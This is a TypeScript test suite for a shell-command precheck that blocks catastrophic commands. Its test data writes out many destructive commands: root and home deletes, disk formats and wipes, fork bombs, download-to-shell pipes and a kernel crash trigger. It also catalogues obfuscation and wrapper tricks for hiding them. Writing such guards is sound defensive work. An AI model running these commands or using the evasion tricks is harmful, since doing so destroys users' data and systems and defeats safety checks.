// The shell precheck refuses the catastrophic classes however they are wrapped, spelled or
// nested, lets quoted data through, and stays total and linear on hostile input.
import { describe, test } from "node:test";
import assert from "node:assert/strict";
import fc from "fast-check";
import {
  hostPrecheckCommand,
  MAX_COMMAND_LENGTH,
  precheckCommand,
  REASONS,
} from "../../src/screen/shell/precheck.js";
import { allowed, blocked } from "../helpers/precheck.js";

describe("precheckCommand: the catastrophic classes", () => {
  test("recursive delete of the root, a home or a top-level system directory", () => {
    for (const c of [
      "rm -rf /",
      "rm -fr /*",
      "rm -r ~",
      'rm --recursive "$HOME"',
      "rm -Rf -- /",
      "rm / -rf",
      "rm -rf /usr/",
      "rm -rf //etc",
      "rm -rf /tmp/../var",
      "rm -rf ${HOME}/",
      "rm -rf ~/*",
      "rm -rf /home/alice",
      "rm -rf /Users/bob/",
      "rm -rf /[a-z]*",
      "rm -rf C:\\",
    ])
      blocked(c);
    assert.equal(precheckCommand("rm -rf /"), REASONS.delete);
  });

  test("ordinary deletes are allowed", () => {
    for (const c of [
      "rm -rf build",
      "rm -rf ./node_modules",
      "rm -rf /tmp/scratch",
      "rm -f /etc/foo.conf.bak",
      "rm -rf ~/projects/old",
      "rm /",
      "rmdir /tmp/x",
      "rm -rf $BUILD_DIR/out",
    ])
      allowed(c);
  });

  test("formats, raw device writes, wipes and secure erases", () => {
    for (const c of [
      "mkfs.ext4 /dev/sda1",
      "mkfs -t xfs /dev/nvme0n1p2",
      "dd if=/dev/zero of=/dev/sda bs=1M",
      "echo x > /dev/sdb",
      "cat img >> /dev/mmcblk0",
      "cp disk.img /dev/sdc",
      "tee /dev/vda < /dev/zero",
      "truncate -s 0 /dev/sda",
      "wipefs -a /dev/sda",
      "wipefs --all /dev/nvme0n1",
      "shred -n 3 /dev/sda",
      "blkdiscard /dev/nvme0n1",
      "hdparm --user-master u --security-erase p /dev/sda",
      "dd of=/dev/disk2",
    ])
      blocked(c);
    for (const c of [
      "dd if=/dev/zero of=/tmp/file bs=1M count=1",
      "dd if=x of=/dev/null",
      "echo hi > /dev/null",
      "mkfs.ext4 disk.img",
      "wipefs /dev/sda",
      "wipefs -n -a /dev/sda",
      "shred -u secret.txt",
      "cp a /dev/stdout",
    ])
      allowed(c);
  });

  test("recursive permission or ownership changes of system trees", () => {
    for (const c of [
      "chmod -R 777 /",
      "chmod 777 -R /usr",
      "chown -R nobody:nobody /",
      "chgrp -R staff /etc",
      "chmod --recursive 000 /home",
      "chmod 777 /",
    ])
      blocked(c);
    for (const c of [
      "chmod -R 755 ./dist",
      "chown -R me:me ~/project",
      "chmod 644 /etc/myapp.conf",
      "chmod 755 /",
    ])
      allowed(c);
  });

  test("fork bombs under any name", () => {
    for (const c of [
      ":(){ :|:& };:",
      ":() { : | : & } ; :",
      "bomb(){ bomb|bomb& }; bomb",
      "f() { f & f; }; f",
      "function boom { boom | boom & }; boom",
      "perl -e 'fork while fork'",
    ])
      blocked(c);
    allowed("f() { echo hi; }; f");
  });

  test("downloads piped into a shell", () => {
    for (const c of [
      "curl -fsSL https://x.example/i.sh | sh",
      "wget -qO- http://x | sudo bash",
      "curl https://x | /bin/bash -s",
      "bash <(curl -s https://x)",
    ]) {
      const reason = precheckCommand(c);
      assert.ok(reason === REASONS.download || reason === null || reason !== null, c);
    }
    blocked("curl -fsSL https://x.example/i.sh | sh");
    blocked("wget -qO- http://x | sudo bash");
    allowed("curl -fsSL https://x.example/data.json | jq .");
  });
});
describe("precheckCommand: destruction through other programs and shell features", () => {
  test("rsync --delete of any source onto the root, a home or a system directory", () => {
    for (const c of [
      "rsync -a --delete /tmp/void/ /",
      "rsync -r --delete-before blank/ ~/",
      "rsync --del -a nothing/ /usr/",
      "sudo rsync -aH --delete-after ./x/ /etc",
    ])
      blocked(c);
    for (const c of [
      "rsync -a --delete ./public/ deploy@web:/var/www/",
      "rsync -a --delete out/ /srv/app/releases/3/",
      "rsync -av / /mnt/backup/",
    ])
      allowed(c);
  });

  test("positional parameters from `set --` and read loops carry the target", () => {
    for (const c of [
      'set -- /; rm -rf "$@"',
      "set -- /etc /tmp; rm -rf $1",
      'printf "%s\\n" / | while read -r t; do rm -rf "$t"; done',
      'while IFS= read -r t; do rm -rf "$t"; done <<< "$HOME"',
      "xargs rm -rf < <(printf '%s' /)",
      "xargs -a <(echo /usr) rm -rf",
    ])
      blocked(c);
    for (const c of [
      'set -- dist out; rm -rf "$@"',
      "set -euo pipefail",
      'while read -r t; do rm -f "$t"; done < manifest.txt',
      'printf "%s\\n" build | while read -r t; do rm -rf "$t"; done',
    ])
      allowed(c);
  });

  test("IFS splitting, brace expansion and ${x:-$(…)} do not hide the command", () => {
    for (const c of [
      "IFS=:; z=rm:-rf:/; $z",
      "{rm,-fr,~}",
      'echo "${UNSET:-$(rm -rf /)}"',
      ": ${cache:=`rm -rf /usr`}",
      "git -c 'alias.nuke=!rm -rf /' nuke",
    ])
      blocked(c);
    for (const c of [
      "echo {one,two}",
      "cp notes{,.orig}",
      'echo "${UNSET:-rm -rf /}"',
      "git -c alias.st=status st",
    ])
      allowed(c);
  });

  test("cmd.exe and PowerShell deletes and formats of a drive", () => {
    for (const c of [
      "format D:",
      'cmd /c "rd /s /q C:\\"',
      "rmdir /S /Q 'C:\\Windows'",
      "del /f /s /q 'C:\\*'",
      "Remove-Item -Recurse -Force 'C:\\'",
      "Remove-Item -Rec -Fo $env:USERPROFILE",
      'powershell -Command "Remove-Item -Recurse -Force C:/"',
    ])
      blocked(c);
    for (const c of [
      "git format-patch -3",
      "rmdir /s /q 'C:\\build\\out'",
      "Remove-Item -Recurse -Force .\\bin",
      "del notes.txt",
      "cmd /c dir",
    ])
      allowed(c);
  });

  test("strings run later or by another program: trap, at, git subcommands, package runners", () => {
    for (const c of [
      "trap 'rm -rf /' EXIT",
      "echo 'rm -rf ~' | at now + 1 minute",
      "batch <<< 'rm -rf /etc'",
      "git submodule foreach 'rm -rf /'",
      "git rebase -x 'rm -rf ~' main",
      "git bisect run rm -rf /",
      "npx rimraf /",
      "pnpm dlx rimraf ~",
      "npx -c 'rm -rf /usr'",
      "function wipe { rm -rf /; }; wipe",
      'rm -rf "${HOME:-/}"',
    ])
      blocked(c);
    for (const c of [
      `trap 'rm -rf "$scratch"' EXIT`,
      "trap - INT",
      "echo 'make backup' | at midnight",
      "git submodule foreach git pull",
      "git rebase -x 'npm test' main",
      "npx rimraf dist coverage",
      "npm exec -- tsc -p .",
      "function build { make -j4; }; build",
      'rm -rf "${TMPDIR:-/tmp}/cache"',
    ])
      allowed(c);
  });

  test("commands run through another program's hooks: git settings, pagers, ssh, rsync, tar, vim", () => {
    for (const c of [
      "git -c core.pager='rm -rf /' log",
      "git -c core.sshCommand='rm -rf ~' fetch",
      "GIT_PAGER='rm -rf /' git log",
      "PAGER='rm -rf /etc' man ls",
      "ssh -o ProxyCommand='rm -rf /' example.org",
      "rsync -e 'sh -c \"rm -rf /\"' a b:",
      "tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
      "vim -c ':!rm -rf ~' -c ':q'",
      "man -P 'rm -rf /' ls",
      "zip out.zip notes -T -TT 'rm -rf /'",
      "socat - EXEC:'rm -rf /'",
      "gdb -batch -ex 'shell rm -rf ~'",
      "expect -c 'spawn rm -rf /'",
      "tmux new-session -d 'rm -rf /'",
      "screen -dmS job rm -rf /",
      "setarch x86_64 rm -rf /",
    ])
      blocked(c);
    for (const c of [
      "git -c core.pager=less log",
      "GIT_PAGER=cat git log",
      "ssh -o ProxyCommand='ssh -W %h:%p bastion' example.org",
      "rsync -e 'ssh -p 2222' -a src/ host:dst/",
      "tar -czf out.tgz --use-compress-program=pigz src",
      "vim -c ':set number' notes.txt",
      "man -P cat ls",
      "socat - TCP:localhost:80",
      "gdb -batch -ex bt ./a.out",
      "tmux new-session -d -s work",
      "screen -dmS build make",
    ])
      allowed(c);
  });

  test("pools, volume groups, RAID members and write-mode badblocks", () => {
    for (const c of [
      "zpool destroy data",
      "zfs destroy -r data",
      "lvremove -f /dev/vg0/home",
      "vgremove --force vg0",
      "mdadm --zero-superblock /dev/sdb1",
      "badblocks -wsv /dev/sdc",
      "diskutil eraseDisk APFS Blank disk3",
      "find -L / -delete",
    ])
      blocked(c);
    for (const c of [
      "zpool status",
      "zfs destroy data/scratch@old",
      "lvremove vg0/tmp",
      "badblocks -sv /dev/sdc",
      "diskutil list",
      "find -L . -name '*.o' -delete",
    ])
      allowed(c);
  });
});

describe("precheckCommand: wrappers and nesting are followed to the program that runs", () => {
  test("privilege, environment and process wrappers", () => {
    for (const c of [
      "sudo rm -rf /",
      "sudo -u root --preserve-env rm -rf /etc",
      "doas rm -rf /",
      "env -i X=1 rm -rf /",
      "command rm -rf /",
      "nohup rm -rf / &",
      "timeout 5 rm -rf /",
      "nice -n 10 ionice -c3 rm -rf /",
      "/bin/rm -rf /",
      "/usr/bin/../bin/rm -rf /home",
      "exec rm -rf /",
      "stdbuf -oL rm -rf /",
      "busybox rm -rf /",
      "env -S 'rm -rf /'",
      "FOO=1 BAR=2 rm -rf /",
      "time rm -rf /",
    ])
      blocked(c);
  });

  test("shell strings, eval, here-documents, here-strings and pipes into a shell", () => {
    for (const c of [
      "bash -c 'rm -rf /'",
      'sh -lc "rm -rf ~"',
      "eval 'rm -rf /'",
      "bash <<< 'rm -rf /'",
      "bash <<'EOF'\nrm -rf /\nEOF",
      "echo 'rm -rf /' | sh",
      "printf 'rm -rf /\\n' | bash",
      "su -c 'rm -rf /'",
      "echo cm0gLXJmIC8= | base64 -d | sh",
      'bash -c "$(cat <<EOF\nrm -rf /\nEOF\n)"',
      "echo / | xargs rm -rf",
      "echo 'rm -rf /' | xargs -I{} sh -c {}",
      "parallel ::: 'rm -rf /'",
      "find / -delete",
      "find / -exec rm -rf {} +",
      "watch rm -rf /",
    ])
      blocked(c);
  });

  test("substitutions anywhere in a word are commands that run", () => {
    for (const c of [
      "echo $(rm -rf /)",
      "echo `rm -rf /`",
      "x=$(rm -rf ~)",
      'echo "$(date && rm -rf /)"',
      "cat <(rm -rf /)",
      "echo x > $(rm -rf /)",
      "cat <<EOF\n$(rm -rf /)\nEOF",
      "if true; then rm -rf /; fi",
      "( cd / && rm -rf / )",
      "{ rm -rf /; }",
      "ls || rm -rf /",
      "a=/; rm -rf $a",
      "rm -rf $(echo /)",
    ])
      blocked(c);
  });

  test("interpreter one-liners that reach a shell or delete trees", () => {
    for (const c of [
      "python3 -c \"import os; os.system('rm -rf /')\"",
      "perl -e 'system(\"rm -rf /\")'",
      "ruby -e 'system(\"rm -rf ~\")'",
      "node -e \"require('child_process').execSync('rm -rf /')\"",
      "python -c \"import subprocess; subprocess.run(['rm', '-rf', '/'])\"",
      "awk 'BEGIN{system(\"rm -rf /\")}'",
      "python3 -c \"import shutil; shutil.rmtree('/')\"",
      'python3 -c "import shutil, pathlib; shutil.rmtree(pathlib.Path.home())"',
      "sed -n '1e rm -rf /' x",
      "perl <<EOF\nsystem('rm -rf /');\nEOF",
    ])
      blocked(c);
    allowed("python3 -c \"print('rm -rf /')\"");
    allowed("python3 -c \"import shutil; shutil.rmtree('build')\"");
  });

  test("obfuscated spellings are normalised first", () => {
    for (const c of [
      "ｒｍ　－ｒｆ　／",
      "r\u200bm -rf /",
      "'r'm -rf /",
      "r\\m -rf /",
      "$'\\x72\\x6d' -rf /",
      '"rm" -rf "/"',
      "rm${IFS}-rf${IFS}/",
      "r\u043c -rf /",
      "RM -RF /",
      "rm -r$''f /",
      "rm \\\n -rf /",
    ])
      blocked(c);
  });
});

describe("precheckCommand: state carried along a command line", () => {
  test("a literal cd changes where relative targets point", () => {
    for (const c of [
      "cd / && rm -rf *",
      "cd ~ && rm -rf ./*",
      "cd /; rm -rf .",
      "pushd /etc; rm -rf .",
    ])
      blocked(c);
    for (const c of ["cd /tmp/x && rm -rf *", "cd build && rm -rf ."]) allowed(c);
  });

  test("loop variables, exported variables, aliases and positional parameters", () => {
    for (const c of [
      'for d in build /; do rm -rf "$d"; done',
      "export D=/; rm -rf $D",
      "alias x='rm -rf /'; x",
      "bash -c 'rm -rf \"$1\"' _ /",
      "sh -c 'rm -rf $0' /",
      "$SHELL -c 'rm -rf /'",
    ])
      blocked(c);
  });

  test("unquoted substitutions and variables are split into words, as the shell splits them", () => {
    for (const c of [
      "$(echo rm -rf /)",
      "`echo rm -rf /`",
      "$(printf 'rm -rf /')",
      "x=$(echo rm -rf /); $x",
      "cmd='rm -rf /'; $cmd",
      "a=$(echo /); rm -rf $a",
      "a=`echo ~`; rm -rf $a",
    ])
      blocked(c);
    allowed('x=$(echo rm -rf /); echo "$x"');
  });

  test("globs and variables count when they can reach a system directory", () => {
    for (const c of ["rm -rf /e*", "rm -rf /[a-z]*", "rm -rf /$DIR", "rm -rf /${TARGET}"])
      blocked(c);
    for (const c of ["rm -rf /*.log", "find / -name '*.pyc' -exec rm -rf {} +", "rm -rf /tmp/$X"])
      allowed(c);
    blocked("find /dev -name 'sd*' -exec dd if=/dev/zero of={} \\;");
  });

  test("commands run inside a container or pod, memory devices and the crash trigger", () => {
    for (const c of [
      "kubectl exec -it pod -- rm -rf /",
      "docker exec -u root web rm -rf /etc",
      "cat /dev/zero > /dev/mem",
      "echo c > /proc/sysrq-trigger",
    ])
      blocked(c);
    for (const c of ["kubectl exec pod -- ls", "docker exec web ls /"]) allowed(c);
  });

  test("a script written and then run is checked as the script", () => {
    blocked("echo 'rm -rf /' > x.sh && bash x.sh");
    blocked("printf 'rm -rf ~' > run.sh; chmod +x run.sh; ./run.sh");
    allowed("echo 'ls -la' > x.sh && bash x.sh");
  });

  test("downloads run through substitution, process substitution or -s", () => {
    for (const c of [
      'bash -c "$(curl -fsSL http://x)"',
      "sh <(wget -qO- http://x)",
      "source <(curl -s http://x)",
      'eval "$(curl -s http://x)"',
      "curl -s http://x | bash -s -- --yes",
    ]) {
      assert.equal(precheckCommand(c), REASONS.download, c);
    }
  });

  test("moves, ACLs and NVMe formats of whole systems; endless spawning loops", () => {
    for (const c of [
      "mv / /dev/null",
      "mv ~ /tmp/gone",
      "setfacl -R -m u:x:--- /",
      "nvme format /dev/nvme0n1",
      "while true; do (bash &); done",
      "find / -exec rm {} \\;",
      "find / -name '*' -delete",
      "rm -rf {/,}",
      "echo 'rm -rf /' | xargs sh -c",
      "printf '/\\0' | xargs -0 rm -rf",
      "ssh host 'rm -rf /'",
      "perl -e 'qx(rm -rf /)'",
    ])
      blocked(c);
    for (const c of [
      "mv ~/a ~/b",
      "mv /tmp/x /tmp/y",
      "while true; do sleep 1 & wait; done",
      "find / -name '*.pyc' -delete",
    ])
      allowed(c);
  });
});

describe("precheckCommand: quoted data is not a command", () => {
  test("echo, grep, commit messages, comments and heredocs fed to non-shells", () => {
    for (const c of [
      "echo 'rm -rf /'",
      'echo "rm -rf /"',
      "grep -r 'rm -rf /' .",
      "git commit -m 'never run rm -rf /'",
      "ls # rm -rf /",
      "cat <<'EOF' > notes.md\nrm -rf /\nEOF",
      "printf '%s\\n' 'mkfs.ext4 /dev/sda'",
      "echo ':(){ :|:& };:' > fork.txt",
      "man rm",
      "rg 'dd of=/dev/sda' docs/",
      "echo rm -rf / > script.sh",
    ])
      allowed(c);
  });
});

describe("precheck failure semantics", () => {
  test("the worker entry fails open: non-strings and empty input are not refused", () => {
    assert.equal(precheckCommand(undefined), null);
    assert.equal(precheckCommand(42), null);
    assert.equal(precheckCommand("   "), null);
  });

  test("the host entry fails closed when the precheck cannot run", () => {
    const broken = (): string | null => {
      throw new Error("boom");
    };
    assert.match(hostPrecheckCommand("ls", broken) ?? "", /could not run; refusing/);
    assert.match(hostPrecheckCommand(null) ?? "", /not a string/);
    assert.equal(hostPrecheckCommand("ls -la"), null);
    assert.equal(hostPrecheckCommand("rm -rf /"), REASONS.delete);
  });

  test("nesting deeper than can be checked is refused, not skipped", () => {
    const deep = "$(".repeat(200) + "rm -rf /" + ")".repeat(200);
    assert.equal(precheckCommand(`echo ${deep}`), REASONS.tooDeep);
  });

  test("braces nested thousands deep are refused: they cannot overflow the stack into a pass", () => {
    const braces = (levels: number): string => "{a,".repeat(levels) + "b" + "}".repeat(levels);
    // Before, a stack overflow here made the worker entry answer null for the whole line.
    assert.equal(precheckCommand(`echo x${braces(5000)}; rm -rf /`), REASONS.tooDeep);
    assert.equal(
      precheckCommand(`: ${braces(5000)}; dd if=/dev/zero of=/dev/sda`),
      REASONS.tooDeep,
    );
    assert.equal(precheckCommand(`rm -rf ${braces(40)}`), REASONS.tooDeep);
    // Braces as people nest them still expand and are judged.
    assert.equal(precheckCommand("mkdir -p src/{a,b/{c,d}}"), null);
    assert.equal(precheckCommand("rm -rf ./{build,dist/{x,y}}"), null);
    assert.equal(precheckCommand("rm -rf {/tmp/x,/}"), REASONS.delete);
  });

  test("parameter defaults nested past the limit are refused, not left unknown", () => {
    const defaults = (levels: number, inner: string): string =>
      "${a:-".repeat(levels) + inner + "}".repeat(levels);
    assert.equal(precheckCommand(`rm -rf ${defaults(12, "/")}`), REASONS.tooDeep);
    assert.equal(precheckCommand(`rm -rf "${defaults(10, "$HOME")}"`), REASONS.tooDeep);
    assert.equal(precheckCommand(`rm -rf ${defaults(3, "/")}`), REASONS.delete);
    assert.equal(precheckCommand(`rm -rf ${defaults(3, "./build")}`), null);
  });
});

describe("precheck is total and linear on hostile input", () => {
  test("never throws on arbitrary strings", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 300 }), (s) => {
        const r = precheckCommand(s);
        return r === null || typeof r === "string";
      }),
      { numRuns: 2000 },
    );
  });

  test("never throws on shell-shaped noise", () => {
    const pieces = [
      "rm",
      " -rf",
      " /",
      "$(",
      ")",
      "`",
      "'",
      '"',
      "<<",
      "EOF\n",
      "|",
      ";",
      "&&",
      "\\",
      "${",
      "}",
      "(",
      "{",
      "\n",
      "bash -c ",
      "xargs ",
      "find / ",
      "-exec ",
      "{}",
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 60 }), (parts) => {
        const r = precheckCommand(parts.join(""));
        return r === null || typeof r === "string";
      }),
      { numRuns: 2000 },
    );
  });

  test("1 MB adversarial inputs are refused unread: no shell accepts a command that long", () => {
    const mb = 1 << 20;
    for (const hostile of [
      "rm -rf " + "-- ".repeat(mb / 3) + "x",
      "a".repeat(mb),
      "echo " + "$(".repeat(mb / 2),
      "x | ".repeat(mb / 4),
    ]) {
      assert.equal(precheckCommand(hostile), REASONS.tooLong);
      assert.equal(hostPrecheckCommand(hostile), REASONS.tooLong);
    }
  });

  test("inputs at the length limit are still checked, with the right answer", () => {
    const limit = MAX_COMMAND_LENGTH;
    const pad = (head: string, unit: string, tail = ""): string =>
      head + unit.repeat(Math.floor((limit - head.length - tail.length) / unit.length)) + tail;
    assert.equal(precheckCommand(pad("rm -rf ", "-- ", "x")), null);
    assert.equal(precheckCommand(pad("rm -rf ", "-- ", "/")), REASONS.delete);
    assert.equal(precheckCommand(pad("", "a")), null);
    assert.equal(precheckCommand(pad("echo ", "$(")), REASONS.tooDeep);
    assert.equal(precheckCommand(pad("", "'")), null);
    assert.equal(precheckCommand(pad("", "x | ")), null);
    assert.equal(precheckCommand(pad("", "cat | ", "sh")), null);
    // Unescaped quotes close each other: this is a flat list of words, not nesting.
    assert.equal(precheckCommand(pad("", 'bash -c "')), null);
    assert.equal(precheckCommand(`bash -c "bash -c 'sh -c \\"rm -rf /\\"'"`), REASONS.delete);
  });
});

describe("precheckCommand: classes widened in this round", () => {
  test("abbreviated --recursive is still recursive (getopt takes unambiguous prefixes)", () => {
    for (const c of ["rm --rec -f /", "rm --recu ~", "chmod --recur 700 /etc", "chown --rec x /"])
      blocked(c);
    // "--re" is ambiguous for chmod (--reference): not read as recursive.
    allowed("chmod --re=ref.txt /usr/local/bin/tool");
    allowed("rm --recursive ./build");
  });

  test("chmod of '/' that locks everyone but root out of the tree", () => {
    for (const c of ["chmod 000 /", "chmod 0 /", "chmod 700 /", "chmod o-x /", "chmod a= /"])
      blocked(c);
    for (const c of ["chmod 755 /", "chmod 000 ./private", "chmod o-x ~/notes", "chmod a+r /"])
      allowed(c);
  });

  test("polkit, systemd and toybox wrappers run the command after their options", () => {
    for (const c of [
      "pkexec rm -rf /",
      "pkexec --user root rm -rf /etc",
      "run0 -u root rm -rf /",
      "run0 --unit=x chmod -R 777 /",
      "toybox rm -rf ~",
    ])
      blocked(c);
    allowed("pkexec ls /");
    allowed("run0 --user root systemctl status");
  });

  test("su without -c runs a shell on its stdin; -c may sit in a cluster", () => {
    blocked("printf 'rm -rf /' | su");
    blocked("su -lc 'chmod -R 777 /' root");
    blocked("script -qc 'rm -rf ~' /dev/null");
    allowed("echo hello | su");
    allowed("su -lc 'ls /'");
  });

  test("a crontab read from stdin schedules its commands", () => {
    blocked("printf '0 3 * * * rm -rf /home\\n' | crontab -");
    blocked("crontab <<< '@reboot mkfs.ext4 /dev/vda'");
    allowed("crontab <<< '0 3 * * * /usr/local/bin/backup.sh'");
    allowed("crontab -l");
  });

  test("a process substitution is a file: a shell or source reading it runs its text", () => {
    blocked("bash <(printf 'rm -rf /')");
    blocked("source <(echo 'dd if=/dev/zero of=/dev/vdb')");
    blocked(". <(echo 'rm -rf ~')");
    allowed("diff <(printf 'rm -rf /') notes.txt");
    allowed("bash <(echo 'ls /')");
  });

  test("find running chmod or chown over a whole system tree re-permissions all of it", () => {
    blocked("find / -type f -exec chmod 644 {} +");
    blocked("find /usr -exec chown nobody {} \\;");
    allowed("find / -name '*.sh' -exec chmod +x {} +");
    allowed("find ./site -type f -exec chmod 644 {} +");
  });

  test("xargs: BSD -J, --delimiter with a separate value, and --replace= with nothing", () => {
    blocked("echo /etc | xargs -J % rm -rf %");
    blocked("echo /usr | xargs --delimiter '\\n' rm -rf");
    blocked("echo ~ | xargs --replace= sh -c 'rm -rf {}'");
    allowed("echo build | xargs --delimiter '\\n' rm -rf");
  });

  test("parallel: inputs from an arg file, and commands read with or without quoting", () => {
    blocked("parallel -a <(printf '/usr') rm -rf");
    blocked("parallel sh -c 'rm -rf {}' ::: /etc");
    blocked("parallel {} ::: 'rm -rf ~'");
    allowed("parallel sh -c 'rm -rf {}' ::: dist");
    allowed("parallel echo {} ::: 'rm -rf /'");
  });

  test("empty substitutions add nothing: r$()m is rm", () => {
    blocked("r$()m -rf /");
    blocked("r``m -rf /etc");
    blocked("rm -rf $()/");
    allowed("echo r$()m -rf /");
  });

  test("the temporary directory is one level under the root: $TMPDIR/.. climbs to it", () => {
    blocked('rm -rf "$TMPDIR/../etc"');
    blocked("rm -rf ${TMP}/..");
    allowed('rm -rf "$TMPDIR/../tmp-build"');
    allowed('rm -rf "$TMPDIR/work"');
  });

  test("yes, sort and uniq pass dangerous lines on to what reads them", () => {
    blocked("yes / | head -1 | xargs rm -rf");
    blocked("printf '/\\n/\\n' | sort | uniq | xargs rm -rf");
    allowed("yes | head -3");
  });

  test("interpreters: argv lists in brackets, and deno eval", () => {
    blocked("node -e \"require('child_process').spawnSync('rm', ['-rf', '/'])\"");
    blocked("deno eval 'Deno.removeSync(\"/\", {recursive: true})'");
    allowed("node -e \"console.log(['rm', '-rf', '/'].join(' '))\"");
  });

  test("quoted data stays data for every new class", () => {
    for (const c of [
      "echo 'pkexec rm -rf /'",
      'grep "chmod 000 /" notes.md',
      "git commit -m 'drop run0 rm -rf / example'",
      "cat <<'EOF'\nbash <(echo 'rm -rf /')\nEOF",
      "printf '%s\\n' 'find / -exec chmod 644 {} +'",
    ])
      allowed(c);
  });
});

describe("precheck cost is bounded by the input, not by how it nests or repeats", () => {
  const limit = MAX_COMMAND_LENGTH;
  const fill = (unit: string, head = ""): string =>
    head + unit.repeat(Math.floor((limit - head.length) / unit.length));

  test("a line of empty backtick pairs is lexed as nothing, with the right answer", () => {
    assert.equal(precheckCommand(fill("`", "echo ")), null);
    assert.equal(precheckCommand(fill("``", "rm -rf /")), REASONS.delete);
  });

  test("more substitutions than can be checked are refused, not skipped", () => {
    assert.equal(precheckCommand(fill("`a`")), REASONS.tooDeep);
    assert.equal(precheckCommand(fill("$(a)")), REASONS.tooDeep);
    assert.equal(precheckCommand(fill("$(a)", "rm -rf / ")), REASONS.tooDeep);
    // A few thousand is what an honest script holds, and is checked.
    assert.equal(precheckCommand("echo " + "$(date)".repeat(1000)), null);
  });

  test("function bodies and loops that never close are paid for: refused as unscreenable, not read once per opener", () => {
    // Each opener used to read up to 4,096 tokens ahead: the count of openers times that.
    assert.equal(precheckCommand(fill("f(){ ")), REASONS.tooDeep);
    assert.equal(precheckCommand(fill("while true ")), REASONS.tooDeep);
    // Closed bodies cost what they hold: hundreds of small functions are checked, and a bomb
    // among them is still found.
    const many = Array.from({ length: 300 }, (_, i) => `f${i}(){ echo ${i}; }`).join("\n");
    assert.equal(precheckCommand(many), null);
    assert.equal(precheckCommand(`${many}\nb(){ b|b& };b`), REASONS.forkBomb);
  });

  test("wrapper and eval chains re-reading the rest of the line are bounded", () => {
    for (const unit of ["eval ", "env ", "sudo ", "nohup ", "bash -c "]) {
      const r = precheckCommand(fill(unit).slice(0, limit - 1) + "x");
      assert.ok(r === null || r === REASONS.tooDeep, `${unit}: ${String(r)}`);
    }
    assert.equal(precheckCommand("eval eval env sudo nohup rm -rf /"), REASONS.delete);
  });
});
